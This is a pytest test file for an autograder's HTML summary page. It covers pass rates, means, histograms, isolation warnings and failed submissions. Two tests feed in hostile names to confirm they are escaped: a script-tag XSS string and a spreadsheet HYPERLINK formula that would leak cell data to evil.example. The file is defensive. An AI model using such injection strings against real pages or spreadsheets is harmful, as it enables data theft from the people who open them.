"""summary.html: a self-contained page with pass rates, means and a histogram."""

from __future__ import annotations

import re
from pathlib import Path

from grader.batch import BatchRow
from grader.gradescope.metadata import Submitter
from grader.rubric import Rubric
from grader.summary_html import BINS, histogram_svg, write_summary

HOSTILE = '<script>alert("x")</script>'


def _row(name: str, rubric: Rubric, full: bool, submitters: tuple[Submitter, ...] = ()) -> BatchRow:
    items = {item.id: item.points if full else 0.0 for item in rubric.items}
    parts = {
        part: sum(items[i.id] for i in rubric.items if i.part == part) for part in rubric.parts
    }
    return BatchRow(name, submitters, parts, items, sum(items.values()), rubric.autograded_points)


def test_summary_escapes_names_and_loads_nothing(tmp_path: Path, rubric: Rubric) -> None:
    """Submission and student names are escaped; no script, no external asset."""
    rows = [
        _row(HOSTILE, rubric, True, (Submitter("Doe, Jane & <b>Bob</b>", "j@x.edu", "1"),)),
        _row("plain", rubric, False),
    ]
    path = tmp_path / "summary.html"
    write_summary(path, rows, rubric)
    page = path.read_text(encoding="utf-8")
    assert "<script" not in page and "&lt;script&gt;" in page
    assert "Doe, Jane &amp; &lt;b&gt;Bob&lt;/b&gt;" in page
    assert not re.search(r"<link|src=|@import|url\(", page)
    autograded_parts = [p for p in rubric.parts if p not in {m.part for m in rubric.manual}]
    assert page.count("<svg") == 1 + len(autograded_parts)  # the totals' histogram, and one per part


def test_summary_reports_pass_rates_and_means(tmp_path: Path, rubric: Rubric) -> None:
    """One full and one empty submission: every item 50 % full marks, part means half the points."""
    path = tmp_path / "summary.html"
    write_summary(path, [_row("a", rubric, True), _row("b", rubric, False)], rubric)
    page = path.read_text(encoding="utf-8")
    first = rubric.items[0]
    assert re.search(
        rf"<td>{first.id}</td><td>{first.part}</td><td>{first.points:g}</td><td>50 %</td>"
        rf"<td>{first.points / 2:.2f}</td>",
        page,
    )
    assert "<td>p5</td><td>25</td><td>12.50</td>" in page
    assert f"Mean total {rubric.autograded_points / 2:.2f}" in page


def test_histogram_puts_each_total_in_one_bar() -> None:
    """Totals 0, 0, 50 and the maximum: bars of 2, 1 and 1 (the maximum in the last bin)."""
    svg = histogram_svg([0, 0, 50, 100], 100)
    assert svg.count("<rect") == BINS
    counts = [int(m) for m in re.findall(r"<title>[^<]*: (\d+)</title>", svg)]
    assert counts == [2, 0, 0, 0, 0, 1, 0, 0, 0, 1]


def test_summary_of_no_submissions(tmp_path: Path, rubric: Rubric) -> None:
    """An empty batch still writes a page."""
    write_summary(tmp_path / "summary.html", [], rubric)
    assert "0 submissions" in (tmp_path / "summary.html").read_text(encoding="utf-8")


def test_summary_escapes_formulas_in_names(tmp_path: Path, rubric: Rubric) -> None:
    """A display name chosen to be a spreadsheet formula is plain, escaped text here."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"<b>Click</b>")'
    write_summary(tmp_path / "summary.html", [_row("s1", rubric, True, (Submitter(name, "e", "1"),))], rubric)
    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;&lt;b&gt;Click&lt;/b&gt;&quot;)" in page
    assert "<b>Click" not in page


def test_summary_says_a_weaker_isolation_layer(tmp_path: Path, rubric: Rubric) -> None:
    """The layers the notebooks ran in, and a warning naming what a weaker one leaves open."""
    rows = [_row(f"s{i}", rubric, True) for i in range(3)]
    for row, layer in zip(rows, ["namespaces", "rlimits", "uid"], strict=True):
        row.extra["isolation"] = layer
    write_summary(tmp_path / "summary.html", rows[:1], rubric)
    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
    assert "namespaces (1)" in page and "Weaker isolation" not in page
    write_summary(tmp_path / "summary.html", rows, rubric)
    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
    assert "Weaker isolation: rlimits</strong> (1 submission)" in page and "WITHOUT isolation" in page
    assert "Weaker isolation: uid</strong>" in page


def test_summary_lists_submissions_not_graded_apart(tmp_path: Path, rubric: Rubric) -> None:
    """A failure to grade is listed with its reason and left out of the means and the histogram."""
    failed = _row("broken", rubric, False)
    failed.failure = "grader internal error on p1_step (OSError: [Errno 28] No space left on device)"
    write_summary(tmp_path / "summary.html", [_row("a", rubric, True), failed], rubric)
    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
    assert "2 submissions, 1 not graded" in page and "No space left on device" in page
    assert f"Mean total {rubric.autograded_points:.2f}" in page and "(over the 1 graded)" in page
    assert "<td>broken</td><td></td><td>not graded</td>" in page
